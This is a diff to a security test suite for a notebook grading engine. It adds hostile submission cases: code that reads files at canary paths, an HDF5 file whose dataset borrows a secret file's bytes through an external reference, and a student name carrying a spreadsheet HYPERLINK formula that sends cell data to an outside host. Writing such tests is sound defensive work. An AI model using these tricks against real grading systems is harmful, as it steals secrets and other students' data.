@@ -92,9 +92,11 @@ class Case:
 
     @property
     def engine_only(self) -> bool:
-        """Whether it attacks parts that only this engine has, or the network, which stock nbgrader gets none of here."""
+        """Whether it attacks parts that only this engine has, or what stock nbgrader gets none of here: a network, a name of one's own."""
         own = ("grading.exporter", "argv.index('-f')", "SERVERS")
-        return any(part in text for text in (*self.answers.values(), *self.before.values()) for part in own)
+        return self.name.endswith("for a name") or any(
+            part in text for text in (*self.answers.values(), *self.before.values()) for part in own
+        )
 
     def write(self, folder: Path) -> None:
         """Writes the submission."""
@@ -153,6 +155,17 @@ def _model(layer: dict | None = None, **fields) -> str:
     config = {"name": "m", "layers": [entrance, layer or dense]}
     plain = {"module": "keras", "class_name": "Sequential", "config": config}
     return repr({"config": plain, "weights": [], "trainable": [], "compile": None, **fields})
+
+
+def _outside(folder: Path) -> None:
+    """A file of HDF5 whose dataset has its numbers in another file: the secret."""
+    import h5py
+
+    secret = folder.parents[2] / "secret.txt"
+    with h5py.File(folder / "weights.h5", "w") as file:
+        file.create_dataset(
+            "kernel", (secret.stat().st_size,), "u1", external=[(str(secret), 0, secret.stat().st_size)]
+        )
 
 
 def _archive(folder: Path) -> None:
@@ -514,6 +527,14 @@ CASES = [
         },
     ),
     Case(
+        "reading every place it knows, another submission too",
+        GRADED,
+        FULL,
+        before={
+            "score": "for place in CANARIES:\n    try: print(open(place, 'rb').read()[:2000])\n    except OSError: pass"
+        },
+    ),
+    Case(
         "function that looks at who calls it",
         GRADED,
         FULL,
@@ -575,6 +596,14 @@ CASES = [
         before={"values": "import zipfile\nzipfile.ZipFile('data.zip').extractall('data')"},
     ),
     Case('=HYPERLINK("http://host/"&A1) for a name', GRADED, FULL),
+    Case(f"Zoë 名前 {'ö' * 40} for a name", GRADED, FULL),
+    Case(
+        "HDF5 file that borrows a secret's bytes",
+        GRADED,
+        FULL,
+        prepare=_outside,
+        before={"score": "import h5py\ntry: print(bytes(h5py.File('weights.h5')['kernel'][:]))\nexcept OSError: pass"},
+    ),
     Case(
         "link to a secret",
         GRADED,
